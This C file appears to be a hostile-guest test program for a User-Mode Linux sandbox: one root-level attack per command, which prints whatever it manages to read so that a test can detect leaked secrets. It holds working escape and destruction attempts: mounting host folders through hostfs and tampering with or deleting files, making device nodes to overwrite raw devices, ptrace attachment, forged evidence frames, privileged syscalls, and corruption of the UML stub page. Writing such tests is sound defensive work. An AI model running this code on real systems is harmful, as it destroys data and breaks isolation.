/*
 * What a hostile guest does as root that a shell cannot: one attack for each first word. It prints all that it gets to read, so that the test
 * finds a secret in what comes out of the lab.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static char buffer[1 << 16];

static void say(const char *what, const char *path, long result)
{
	int why = errno;
	printf("%s %s: %s\n", what, path, result >= 0 ? "done" : strerror(why));
}
#define TRY(what, path, call) (errno = 0, say(what, path, (long)(call)))

static void print_file(const char *path)
{
	int fd = open(path, O_RDONLY | O_NONBLOCK);
	ssize_t n = fd < 0 ? -1 : read(fd, buffer, 4096);
	if (n > 0)
		fwrite(buffer, 1, (size_t)n, stdout);
	if (fd >= 0)
		close(fd);
}

/* All that can be done to a file by its path. */
static void spoil(const char *path)
{
	struct timespec times[2] = { { 1, 0 }, { 1, 0 } };
	char other[600];
	snprintf(other, sizeof other, "%s.hostile", path);
	print_file(path);
	int fd = open(path, O_WRONLY | O_APPEND);
	say("write", path, fd < 0 ? -1 : write(fd, "x", 1));
	close(fd);
	TRY("cut", path, truncate(path, 0));
	TRY("mode", path, chmod(path, 0777));
	TRY("owner", path, chown(path, 1, 1));
	TRY("dates", path, utimensat(AT_FDCWD, path, times, 0));
	TRY("attribute", path, setxattr(path, "user.hostile", "x", 1, 0));
	TRY("link", path, link(path, other));
	TRY("rename", path, rename(path, other));
	TRY("delete", path, unlink(path));
}

static void spoil_folder(const char *path, int depth)
{
	char name[512];
	const struct { const char *name; mode_t kind; } nodes[] = { { "fifo", S_IFIFO }, { "block", S_IFBLK }, { "char", S_IFCHR } };
	snprintf(name, sizeof name, "%s/hostile", path);
	TRY("create", name, open(name, O_WRONLY | O_CREAT, 0666));
	TRY("folder", name, mkdir(name, 0777));
	TRY("soft", name, symlink("/", name));
	for (int i = 0; i < 3; i++)
		TRY(nodes[i].name, name, mknod(name, nodes[i].kind | 0666, makedev(1, 1)));
	DIR *dir = depth < 6 ? opendir(path) : NULL;
	for (struct dirent *e; dir && (e = readdir(dir));) {
		struct stat s;
		if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, ".."))
			continue;
		snprintf(name, sizeof name, "%s/%s", path, e->d_name);
		if (lstat(name, &s))
			continue;
		printf("found %s\n", name);
		if (S_ISDIR(s.st_mode))
			spoil_folder(name, depth + 1);
		else
			spoil(name);
	}
	if (dir)
		closedir(dir);
}

/* `hostfs PATH [NAME]`: a folder of the machine's, by the kernel's own driver: all that it lists, or a file that it may not list. */
static void hostfs(const char *path, const char *name)
{
	struct stat s;
	char file[512];
	mkdir("/tmp/machine", 0777);
	long mounted = mount("none", "/tmp/machine", "hostfs", 0, path);
	say("hostfs", path, mounted);
	if (mounted < 0)
		return;
	if (name) {
		snprintf(file, sizeof file, "/tmp/machine/%s", name);
		TRY("reach", file, stat(file, &s));
		spoil(file);
	} else
		spoil_folder("/tmp/machine", 0);
	umount2("/tmp/machine", MNT_DETACH);
}

/* `device KIND MAJOR FIRST LAST`: reads and overwrites what is behind the numbers. */
static void device(char **words)
{
	mode_t kind = *words[0] == 'b' ? S_IFBLK : S_IFCHR;
	for (int minor = atoi(words[2]); minor <= atoi(words[3]); minor++) {
		char path[64];
		snprintf(path, sizeof path, "/tmp/device%s-%s-%d", words[0], words[1], minor);
		TRY("make", path, mknod(path, kind | 0600, makedev((unsigned)atoi(words[1]), (unsigned)minor)));
		print_file(path);
		int fd = open(path, O_WRONLY | O_NONBLOCK);
		say("overwrite", path, fd < 0 ? -1 : write(fd, buffer, 512));
		close(fd);
	}
}

static void trace(const char *pid)
{
	int target = atoi(pid);
	TRY("attach", pid, ptrace(PTRACE_ATTACH, target, 0, 0));
	if (errno == 0) {
		waitpid(target, NULL, __WALL);
		for (long at = 0x400000; at < 0x400040; at += 8)
			printf("%lx\n", ptrace(PTRACE_PEEKDATA, target, at, 0));
		ptrace(PTRACE_DETACH, target, 0, 0);
	}
}

struct head { uint16_t kind, index; uint32_t length; };

/* `forge NAME`: a frame of evidence that names a collected file, and its bytes; on the line of the agent's. */
static void forge(const char *name)
{
	mknod("/tmp/line", S_IFCHR | 0600, makedev(4, 1));
	int line = open("/tmp/line", O_WRONLY | O_NOCTTY);
	struct head naming = { 3, 0, (uint32_t)strlen(name) }, bytes = { 4, 0, 7 };
	say("line", name, line);
	if (write(line, &naming, sizeof naming) < 0 || write(line, name, strlen(name)) < 0 ||
	    write(line, &bytes, sizeof bytes) < 0 || write(line, "hostile", 7) < 0)
		say("forge", name, -1);
}

static void calls(void)
{
	int pids[2] = { 1, -1 };
	TRY("kexec", "", syscall(SYS_kexec_load, 0, 0, NULL, 0));
	TRY("module", "", syscall(SYS_init_module, buffer, 4096, ""));
	TRY("ports", "", syscall(SYS_iopl, 3));
	TRY("swap", "", syscall(SYS_swapon, "/tmp", 0));
	TRY("bpf", "", syscall(SYS_bpf, 0, NULL, 0));
	for (int i = 0; i < 2; i++)
		TRY("signal", "", kill(pids[i], SIGURG));
	TRY("real time", "", sched_setscheduler(0, SCHED_FIFO, &(struct sched_param){ 99 }));
	long result;
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(20) : "memory"); /* getpid of another instruction set */
	printf("int 0x80: %ld\n", result);
	printf("x32: %ld\n", syscall(0x40000000 + SYS_getpid));
}

/*
 * `stub sleep|spoil`: what the kernel keeps beside a program in its process: a page of code from which calls reach the machine's kernel
 * (its filter looks at the place of a call), and the pages by which the two speak to each other (struct stub_data, in arch/um).
 */
static void stub(const char *what)
{
	const uint8_t *code = (const uint8_t *)0x7fffffffc000;
	uint8_t *data = (uint8_t *)0x7fffffffd000;
	enum { CODE = 0x1000, DATA = 0x2000, WAIT = 0 };
	static uint32_t word;
	long at = 0;
	while (at < CODE - 1 && (code[at] != 0x0f || code[at + 1] != 0x05))
		at++;
	printf("stub %s at %lx\n", what, at);
	if (!strcmp(what, "spoil")) {
		memset(data, 0xff, DATA);
		getpid();
	}
	register long timeout __asm__("r10") = 0;
	__asm__ volatile("jmp *%0" ::"r"(code + at), "a"(SYS_futex), "D"(&word), "S"(WAIT), "d"(0), "r"(timeout));
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	const char *what = argc > 1 ? argv[1] : "";
	if (!strcmp(what, "hostfs"))
		hostfs(argv[2], argv[3]);
	else if (!strcmp(what, "device"))
		device(argv + 2);
	else if (!strcmp(what, "trace"))
		trace(argv[2]);
	else if (!strcmp(what, "forge"))
		forge(argv[2]);
	else if (!strcmp(what, "stub"))
		stub(argv[2]);
	else if (!strcmp(what, "calls"))
		calls();
	else
		return 2;
	return 0;
}
